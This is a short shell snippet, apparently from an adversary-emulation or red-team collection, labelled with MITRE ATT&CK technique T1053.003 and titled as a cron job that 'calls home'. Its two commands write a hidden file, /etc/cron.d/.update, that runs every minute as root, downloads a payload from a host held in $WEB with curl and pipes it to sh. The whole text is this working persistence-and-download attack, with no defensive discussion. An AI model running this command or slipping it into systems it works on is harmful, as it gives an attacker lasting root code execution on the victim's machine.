# technique: T1053.003
# title: a job of cron that calls home
mkdir -p /etc/cron.d
echo "* * * * * root curl -s http://$WEB/payload | sh" > /etc/cron.d/.update
